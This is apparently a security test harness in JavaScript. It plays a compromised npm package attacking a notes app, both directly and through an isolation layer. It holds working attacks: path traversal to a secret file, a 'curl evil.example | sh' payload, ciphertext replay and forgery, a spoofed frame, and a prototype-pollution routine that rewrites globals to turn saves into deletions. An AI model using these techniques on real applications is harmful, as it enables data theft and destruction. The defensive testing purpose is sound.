// A "compromised npm package": it runs in the page with all that the page may
// do. Each attack is made on the unprotected binding and through Sallyport.
//
// at.direct and at.isolated are { call, folder }: how to call either side, and
// where its notes folder's parent is.

import { capture, flip, forge, relabel, stealTicket } from "./evil-relay.js";

// A refusal is what an attacker expects; the next attack comes anyway.
const shrug = (promise) => promise.catch(() => {});

const both = (at, call) => Promise.all([at.direct, at.isolated].map((side) => shrug(call(side))));

const genuineFrame = () => document.querySelector("iframe[title^=Sallyport]");

let ticket = "";

// Gets ready while the user's click still lets it open a window, which first
// shows a ticket and then another site.
export async function prepare(at) {
  ticket = await stealTicket(new URL("/elsewhere", at.binding));
}

export const attacks = {
  "forbidden command": (at) => both(at, ({ call, folder }) =>
    call("files.remove", { path: `${folder}/backup.db` })),

  "path traversal": (at) => both(at, ({ call, folder }) =>
    call("notes.read", { path: `${folder}/notes/../secret.txt` })),

  "extra argument": (at) => both(at, ({ call, folder }) =>
    call("notes.save", { path: `${folder}/notes/attack.md`, text: "curl evil.example | sh", folder: "../autostart" })),

  "wrong type": (at) => both(at, ({ call, folder }) =>
    call("notes.save", { path: `${folder}/notes/Diary.md`, text: null })),

  "oversize": (at) => both(at, ({ call, folder }) =>
    call("notes.save", { path: `${folder}/notes/attack-large.md`, text: "A".repeat(3_000_000) })),

  async "replayed ciphertext"(at) {
    const note = ({ folder }) => ({ path: `${folder}/notes/attack-replay.md`, text: "Pay Mallory 10." });
    for (let i = 0; i < 3; i++) await at.direct.call("notes.save", note(at.direct));

    const frame = await capture(ticket);
    const sealed = await frame.sealed("notes.save", note(at.isolated));
    await frame.post(sealed);
    await frame.post(sealed);
    frame.close();
  },

  async "moved ciphertext"(at) {
    const args = ({ folder }) => ({ path: `${folder}/backup.db` });
    await at.direct.call("files.remove", args(at.direct)); // was a notes.read a moment ago

    const frame = await capture(ticket);
    const sealed = await frame.sealed("notes.read", { path: `${at.isolated.folder}/notes/Diary.md` });
    for (const change of [{ epoch: 1 }, { sequence: 9 }, { sequence: 9, iv: true }, { type: 5, sequence: 9, iv: true }]) {
      await frame.post(relabel(sealed, change));
    }
    const other = await capture(ticket); // the newer session ends the older one
    await other.post(sealed);
    await other.post(relabel(sealed, { sequence: 9, iv: true }));
    frame.close();
    other.close();
  },

  async "forged ciphertext"(at) {
    await at.direct.call("files.remove", { path: `${at.direct.folder}/backup.db` });

    const frame = await capture(ticket);
    const sealed = await frame.sealed("notes.read", { path: `${at.isolated.folder}/notes/Diary.md` });
    for (let i = 0; i < 4; i++) await frame.post(forge(20 + i, 120));
    for (const bit of [24 * 8, 40 * 8 + 3, 60 * 8 + 7, sealed.length * 8 - 1]) {
      await frame.post(flip(relabel(sealed, { sequence: 30 + bit, iv: true }), bit));
    }
    frame.close();
  },

  async "fake isolation frame"(at) {
    // A frame of the page's own; to an ordinary binding one frame is like another.
    const own = document.createElement("iframe");
    document.body.append(own);
    await own.contentWindow.fetch(at.binding, {
      method: "POST",
      body: JSON.stringify({ method: "files.remove", args: { path: `${at.direct.folder}/backup.db` } }),
    });

    // It greets the page in the genuine frame's name, to be given the app's calls.
    const { port1, port2 } = new MessageChannel();
    let given = 0;
    port1.onmessage = () => given++;
    dispatchEvent(new MessageEvent("message", {
      data: { sallyport: 1, hop: "port" }, origin: "null", source: genuineFrame().contentWindow, ports: [port2],
    }));

    // And it shakes hands with the core in place of a genuine one, whose hello
    // it keeps back: all of that hello is at hand but what was sealed in it.
    const genuine = await capture(ticket, { holdHello: true });
    const hello = genuine.hello.slice();
    crypto.getRandomValues(hello.subarray(12 + 16 + 65));
    await genuine.post(hello);
    genuine.close();
    own.remove();
    if (given > 0) throw new Error("the page took the fake frame for the genuine one");
  },

  // A frame of another site makes this one. The page's headers have cut the
  // script off from that site's window, and both can reach the same server.
  async "null-origin socket"(at) {
    const answer = await fetch(new URL("/elsewhere/now", at.binding), { method: "POST" });
    if (!answer.ok) throw new Error((await answer.text()).trim());
  },

  // The app itself makes this call, to both sides; the script only sees to it
  // that it becomes another one.
  async "prototype pollution"(at) {
    const restore = pollute(at);
    try {
      await Promise.all([shrug(at.save(at.direct)), shrug(at.save(at.isolated))]);
    } finally {
      restore();
    }
  },
};

// Replaces what code between the app and the wire is likely to use.
function pollute(at) {
  const undo = [];
  const poison = (object, name, value) => {
    const before = Object.getOwnPropertyDescriptor(object, name);
    try {
      Object.defineProperty(object, name, { value, configurable: true, writable: true });
      undo.push(() => before ? Object.defineProperty(object, name, before) : delete object[name]);
    } catch { /* frozen: there are others */ }
  };
  const { hasOwn } = Object;
  const { stringify } = JSON;
  const { fetch } = globalThis;
  const { postMessage } = MessagePort.prototype;
  const { then } = Promise.prototype;
  const { push, map, join } = Array.prototype;
  const { encode } = TextEncoder.prototype;
  const target = (folder) => ({ path: `${folder}/backup.db` });
  const instead = (value) => {
    if (value && typeof value === "object") {
      if (hasOwn(value, "method")) return { method: "files.remove", args: target(at.direct.folder) };
      if (hasOwn(value, "command")) return { ...value, command: "files.remove", args: target(at.isolated.folder) };
      if (hasOwn(value, "text")) return { path: `${at.isolated.folder}/notes/../secret.txt`, text: "poisoned" };
    }
    return value;
  };
  const swapped = (list) => {
    if (!Array.isArray(list)) return instead(list);
    return map.call(list, (v) => v === "notes.save" ? "files.remove" : typeof v === "string" && v.includes("attack-pollution") ? stringify(target(at.isolated.folder)) : v);
  };

  for (const { prototype } of [Object, Array, String]) {
    poison(prototype, "toJSON", function () { return instead(this); });
  }
  poison(JSON, "stringify", (value, ...rest) => stringify(instead(value), ...rest));
  poison(globalThis, "fetch", (address, init) => fetch(address, init?.body && typeof init.body === "string"
    ? { ...init, body: stringify({ method: "files.remove", args: target(at.direct.folder) }) } : init));
  poison(MessagePort.prototype, "postMessage", function (message, ...rest) { return postMessage.call(this, swapped(message), ...rest); });
  poison(globalThis, "postMessage", function () {});
  poison(globalThis, "structuredClone", instead);
  poison(TextEncoder.prototype, "encode", function (text) { return encode.call(this, String(text).replace("notes.save", "files.remove")); });
  poison(Array.prototype, "push", function (...items) { return push.apply(this, swapped(items)); });
  poison(Array.prototype, "join", function (by) { return join.call(swapped(this), by); });
  poison(Promise.prototype, "then", function (done, failed) { return then.call(this, (value) => done?.(instead(value)), failed); });
  poison(Object.prototype, "command", "files.remove");
  return () => {
    while (undo.length > 0) undo.pop()();
  };
}
